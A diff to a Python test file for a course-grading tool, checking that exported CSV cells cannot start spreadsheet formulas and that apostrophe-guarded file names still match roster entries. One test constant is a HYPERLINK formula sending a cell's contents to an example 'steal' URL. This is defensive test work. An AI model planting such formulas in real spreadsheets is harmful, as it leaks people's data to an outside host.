@@ -12,7 +12,8 @@ import pytest
 
 from coursekit import checks
 from coursekit.tools import export, grade
-from coursekit.tools._inert import FORMULA_START, printable, spreadsheet_cell
+from coursekit.tools.safe_text import FORMULA_STARTS, spreadsheet_cell
+from coursekit.tools.safe_text import inert as printable
 
 ROOT = Path(__file__).resolve().parents[1]
 FORMULA_NAME = '=HYPERLINK("http://example.org/steal?"&A1,"click me")'
@@ -73,7 +74,7 @@ def read(path: Path) -> list[list[str]]:
 def assert_no_formula(rows: list[list[str]]) -> None:
     for row in rows:
         for cell in row:
-            assert not cell.startswith(FORMULA_START + ("\t", "\r")), f"cell {cell!r} would start a formula"
+            assert not cell.lstrip(" ").startswith(FORMULA_STARTS), f"cell {cell!r} would start a formula"
             assert "\x1b" not in cell and "\n" not in cell, f"cell {cell!r} holds a control character"
 
 
@@ -175,3 +176,15 @@ def test_cells_are_inert_numbers_stay_numbers():
     assert spreadsheet_cell("a\nb\x1b[2J") == "a\\nb\\x1b[2J"
     assert spreadsheet_cell("\t=1") == "\\t=1"      # a tab cannot start the cell either
     assert spreadsheet_cell("Kim Lee") == "Kim Lee"
+
+
+def test_a_file_name_the_grader_guarded_with_an_apostrophe_matches_its_roster_entry(tmp_path):
+    """grades.csv writes a file named '=kim.ipynb' as "'=kim.ipynb"; the roster names the file itself."""
+    grades = tmp_path / "grades.csv"
+    grades.write_text("file,01.1,total,status\n'=kim.ipynb,10,10,ok\n'notes.ipynb,0,0,ok\n", encoding="utf-8")
+    roster = tmp_path / "roster.csv"
+    roster.write_text("student_id,file\ns1,=kim.ipynb\ns2,'notes.ipynb\n", encoding="utf-8")
+    built = export.build_export(grades, roster)
+    found = {m.student.student_id: m.grade.file for m in built.matches if m.grade}
+    assert found == {"s1": "=kim.ipynb", "s2": "'notes.ipynb"}   # an apostrophe of the name itself stays
+    assert built.unmatched == []
